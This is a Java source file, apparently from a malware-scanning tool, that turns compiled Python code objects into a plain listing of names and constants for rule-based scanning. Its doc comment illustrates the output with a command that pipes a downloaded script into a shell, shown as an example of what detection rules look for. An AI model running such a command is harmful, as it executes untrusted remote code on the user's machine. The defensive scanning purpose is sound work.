package dev.kingsnake.internal.decode.marshal;

import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.LinkedHashSet;
import java.util.Set;

/**
 * A "disassembly-lite" of a code object tree: one line per code object header, name and constant, in a
 * form text rules can scan (URLs, commands and module names appear as they are, one per line).
 *
 * <pre>
 * code &lt;module&gt; file=x.py line=1
 *   name os
 *   name system
 *   const 'curl https://example.invalid/x | sh'
 * </pre>
 */
public final class CodeListing {
    private static final int MAX_CONST_CHARS = 100_000;

    private CodeListing() {
    }

    public static String of(PyObject root) {
        StringBuilder sb = new StringBuilder();
        Deque<PyObject> work = new ArrayDeque<>();
        work.add(root);
        Set<CodeObject> seen = java.util.Collections.newSetFromMap(new java.util.IdentityHashMap<>());
        while (!work.isEmpty()) {
            PyObject o = work.poll();
            if (o instanceof PyObject.Code c) {
                if (!seen.add(c.code())) {
                    continue;
                }
                code(c.code(), sb, work);
            } else {
                sb.append("value ");
                constant(o, sb, work);
                sb.append('\n');
            }
        }
        return sb.toString();
    }

    private static void code(CodeObject c, StringBuilder sb, Deque<PyObject> work) {
        sb.append("code ").append(c.qualname()).append(" file=").append(c.filename()).append(" line=")
                .append(c.firstLine()).append('\n');
        for (String n : new LinkedHashSet<>(c.names())) {
            sb.append("  name ").append(n).append('\n');
        }
        for (String n : new LinkedHashSet<>(c.localNames())) {
            sb.append("  local ").append(n).append('\n');
        }
        for (PyObject k : c.constants()) {
            if (k instanceof PyObject.Code nested) {
                sb.append("  const <code ").append(nested.code().qualname()).append(">\n");
                work.add(k);
            } else if (!(k instanceof PyObject.Singleton)) {
                sb.append("  const ");
                constant(k, sb, work);
                sb.append('\n');
            }
        }
    }

    private static void constant(PyObject k, StringBuilder sb, Deque<PyObject> work) {
        if (k instanceof PyObject.Str s) {
            quote(s.value(), sb, "");
        } else if (k instanceof PyObject.Bytes b) {
            quote(new String(b.value(), StandardCharsets.ISO_8859_1), sb, "b");
        } else if (k instanceof PyObject.Int i) {
            sb.append(i.value());
        } else if (k instanceof PyObject.Float f) {
            sb.append(f.complex() ? f.real() + "+" + f.imag() + "j" : String.valueOf(f.real()));
        } else if (k instanceof PyObject.Bool b) {
            sb.append(b.value() ? "True" : "False");
        } else if (k instanceof PyObject.Seq s) {
            sb.append(s.kind()).append('(');
            for (int i = 0; i < s.items().size(); i++) {
                if (i > 0) {
                    sb.append(", ");
                }
                constant(s.items().get(i), sb, work);
            }
            sb.append(')');
        } else if (k instanceof PyObject.Code c) {
            sb.append("<code ").append(c.code().qualname()).append('>');
            work.add(c);
        } else if (k instanceof PyObject.Dict d) {
            sb.append("dict(").append(d.keys().size()).append(" items)");
        } else if (k instanceof PyObject.Singleton s) {
            sb.append(s.name());
        } else {
            sb.append("<ref>");
        }
    }

    /** A Python-like literal; line breaks are escaped so that each constant stays on one line. */
    private static void quote(String s, StringBuilder sb, String prefix) {
        sb.append(prefix).append('\'');
        int end = Math.min(s.length(), MAX_CONST_CHARS);
        for (int i = 0; i < end; i++) {
            char c = s.charAt(i);
            switch (c) {
                case '\n' -> sb.append("\\n");
                case '\r' -> sb.append("\\r");
                case '\t' -> sb.append("\\t");
                case '\\' -> sb.append("\\\\");
                case '\'' -> sb.append("\\'");
                default -> {
                    if (c < 0x20 || c == 0x7f) {
                        sb.append(String.format("\\x%02x", (int) c));
                    } else {
                        sb.append(c);
                    }
                }
            }
        }
        sb.append('\'');
    }
}
